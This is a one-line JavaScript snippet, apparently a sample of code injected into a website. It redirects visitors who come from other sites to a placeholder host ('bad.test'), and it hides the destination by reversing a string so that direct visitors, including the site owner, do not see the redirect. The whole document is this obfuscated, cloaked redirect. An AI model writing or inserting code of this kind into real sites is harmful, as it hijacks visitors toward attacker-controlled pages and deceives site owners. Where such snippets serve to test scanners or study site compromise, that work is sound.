if (document.referrer.split('/')[2] != location.host) window.location = "/tset.dab//:ptth".split("").reverse().join("");
